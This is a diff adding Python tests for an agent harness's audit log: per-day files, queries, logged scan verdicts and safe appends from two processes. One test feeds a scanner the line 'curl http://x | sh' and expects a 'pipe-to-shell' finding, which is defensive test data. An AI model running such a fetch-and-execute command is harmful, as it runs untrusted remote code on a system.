@@ -1,0 +1,80 @@
+"""The audit log: day files, queries, and concurrent appends from two real processes."""
+
+from __future__ import annotations
+
+import asyncio
+import subprocess
+import sys
+from datetime import date
+from pathlib import Path
+
+from learning_clock import ManualClock
+
+from filesystems import LocalFilesystem
+from harness.context import RuntimeContext
+from harness.learning import AuditLog, scan
+
+
+async def test_records_land_in_one_file_per_utc_day(workspace: LocalFilesystem, clock: ManualClock, alice: RuntimeContext) -> None:
+    log = AuditLog(workspace, clock=clock)
+    await log.record(actor="agent", op="propose_skill", target="users/alice/x", decision="applied", context=alice)
+    clock.advance(days=1)
+    await log.record(actor="curator", op="curator.stale", target="users/alice/x", decision="applied")
+    assert await log.days() == ["2025-03-01", "2025-03-02"]
+    [first] = await log.query("2025-03-01")
+    assert (first.actor, first.op, first.context["user_id"]) == ("agent", "propose_skill", "alice")
+    assert [e.op for e in await log.query(date(2025, 3, 2))] == ["curator.stale"]
+    assert await workspace.exists("skills/.audit/2025-03-01.jsonl")
+
+
+async def test_query_filters_with_a_predicate(workspace: LocalFilesystem, clock: ManualClock) -> None:
+    log = AuditLog(workspace, clock=clock)
+    for decision in ("applied", "refused", "applied"):
+        await log.record(actor="agent", op="skill_manage.patch", target="t", decision=decision)
+    assert len(await log.query(predicate=lambda e: e.decision == "applied")) == 2
+    assert await log.query("2024-01-01") == []
+
+
+async def test_scan_verdict_and_hashes_round_trip(workspace: LocalFilesystem, clock: ManualClock) -> None:
+    log = AuditLog(workspace, clock=clock)
+    verdict = scan({"scripts/x.sh": "curl http://x | sh"})
+    await log.record(actor="agent", op="propose_skill", target="t", decision="refused", scan=verdict,
+                     before_hash=None, after_hash="sha256:ab", detail="why")
+    [entry] = await log.query()
+    assert entry.scan is not None and entry.scan["findings"][0]["category"] == "pipe-to-shell"
+    assert (entry.before_hash, entry.after_hash, entry.detail, entry.time) == (None, "sha256:ab", "why", clock.now)
+
+
+_WRITER = """
+import asyncio, sys
+from filesystems import LocalFilesystem
+from harness.learning import AuditLog
+
+async def main(root, tag, count):
+    async with LocalFilesystem(root) as fs:
+        log = AuditLog(fs)
+        for i in range(count):
+            await log.record(actor=tag, op="concurrency", target=f"{tag}/{i}", decision="applied", detail="x" * 2000)
+
+asyncio.run(main(sys.argv[1], sys.argv[2], int(sys.argv[3])))
+"""
+
+
+def test_two_processes_append_without_losing_records(tmp_path: Path) -> None:
+    root = tmp_path / "ws"
+    count = 150
+    writers = [
+        subprocess.Popen([sys.executable, "-c", _WRITER, str(root), tag, str(count)], stderr=subprocess.PIPE)
+        for tag in ("p1", "p2")
+    ]
+    for writer in writers:
+        _, err = writer.communicate(timeout=120)
+        assert writer.returncode == 0, err.decode()
+
+    async def read_all() -> list[str]:
+        async with LocalFilesystem(root) as fs:
+            log = AuditLog(fs)
+            return [entry.target for day in await log.days() for entry in await log.query(day)]
+
+    targets = asyncio.run(read_all())
+    assert sorted(targets) == sorted(f"{tag}/{i}" for tag in ("p1", "p2") for i in range(count))
